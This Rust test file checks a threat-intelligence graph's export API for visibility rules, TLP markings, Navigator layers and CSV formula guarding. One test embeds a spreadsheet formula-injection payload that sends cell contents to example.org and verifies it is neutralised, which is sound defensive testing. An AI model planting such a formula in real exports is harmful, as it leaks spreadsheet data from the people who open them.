//! Exports for programs that draw.

use super::case::{Case, Who, case};
use crate::known::{CLEAR, import};
use fieldmark_store::sparql::Limits;

#[tokio::test]
async fn a_graph_holds_what_its_caller_may_see_and_the_ends_of_every_edge() {
    for format in ["gexf", "graphml"] {
        let address = format!("/api/v1/export?format={format}");
        let public = case().get(Who::Public, &address).await;
        let steward = case().get(Who::Steward, &address).await;
        assert_eq!(public.status, 200, "{}", public.text());
        assert!(public.header("content-type").contains(format), "{format}");
        assert!(public.text().contains("Alces Lake"), "{format}");
        assert!(!public.text().contains("Hidden campaign"), "{format}");
        assert!(steward.text().contains("Hidden campaign"), "{format}");
        let again = case().get(Who::Public, &address).await;
        assert_eq!(public.bytes, again.bytes);
    }
    let edges = case().get(Who::Public, "/api/v1/export?format=csv").await;
    let nodes = case()
        .get(Who::Public, "/api/v1/export?format=csv-nodes")
        .await;
    let ids: std::collections::BTreeSet<&str> = nodes
        .text()
        .lines()
        .filter_map(|line| line.split(',').next())
        .collect();
    let lost: Vec<&str> = edges
        .text()
        .lines()
        .skip(1)
        .filter(|line| line.starts_with(|c: char| c.is_ascii_lowercase()) && line.contains("--"))
        .filter_map(|line| line.split(',').next())
        .filter(|source| source.contains("--") && !ids.contains(source))
        .collect();
    assert!(lost.is_empty(), "{lost:?}");
    for (csv, what) in [(&edges, "edges"), (&nodes, "nodes")] {
        let head = csv.text().lines().next().unwrap();
        assert!(head.ends_with(",marking"), "{what}: {head}");
        assert!(csv.text().contains(",TLP:CLEAR\r\n"), "{what}");
        assert!(!csv.text().contains(",TLP:RED\r\n"), "{what}");
    }
    assert!(edges.text().lines().count() > 100, "{}", edges.text().len());
}

#[tokio::test]
async fn a_layer_shows_the_techniques_of_a_campaign_and_lists_what_will_not_show() {
    let address = "/api/v1/export?format=navigator&of=MPs%20campaign%202023";
    let layer = case().get(Who::Public, address).await.json();
    let codes: Vec<&str> = layer["techniques"]
        .as_array()
        .unwrap()
        .iter()
        .map(|technique| technique["techniqueID"].as_str().unwrap())
        .collect();
    assert!(codes.contains(&"T0049"), "{layer:#}");
    let hidden: Vec<&str> = layer["metadata"]
        .as_array()
        .unwrap()
        .iter()
        .map(|entry| entry["name"].as_str().unwrap())
        .collect();
    assert!(hidden.contains(&"not shown: T0143.003"), "{layer:#}");
    assert!(!codes.contains(&"T0143.003"));
    let attack = case()
        .get(Who::Public, "/api/v1/export?format=navigator-attack")
        .await
        .json();
    assert_eq!(
        (&attack["versions"]["layer"], &attack["domain"]),
        (&"4.5".into(), &"disarm".into())
    );
}

#[tokio::test]
async fn a_table_for_a_spreadsheet_runs_nothing_and_says_what_was_guarded() {
    let case = Case::with(Limits::default());
    let formula = "=HYPERLINK(\\\"http://example.org/?\\\"&A1)";
    let id = "campaign--00000000-0000-4000-8000-000000002102";
    let text = format!(
        "id:{id} a stix:Campaign ; skos:prefLabel \"{formula}\"@en ; stix:first_seen \"2021\"^^<http://id.loc.gov/datatypes/edtf/EDTF> ."
    );
    import(&case, CLEAR, &text).await;
    for path in [
        format!("export?format=csv-nodes&of={id}"),
        format!("queries/timeline.csv?subject={id}"),
        "records?format=csv&noun=Campaign&from=2021&to=2021".to_owned(),
    ] {
        let exact = case.get(Who::Public, &format!("/api/v1/{path}")).await;
        assert!(exact.text().contains("\"=HYPERLINK("), "{}", exact.text());
        assert_eq!(exact.header("fieldmark-guarded"), "");
        let path = format!("/api/v1/{path}&spreadsheet=true");
        let guarded = case.get(Who::Public, &path).await;
        assert!(
            guarded.text().contains("\"'=HYPERLINK("),
            "{}",
            guarded.text()
        );
        assert!(!guarded.text().contains("\"=HYPERLINK("));
        assert_eq!(guarded.header("fieldmark-guarded"), "1");
        assert!(guarded.header("content-type").starts_with("text/csv"));
        assert_eq!(guarded.text().replace("\"'=", "\"="), exact.text());
    }
}
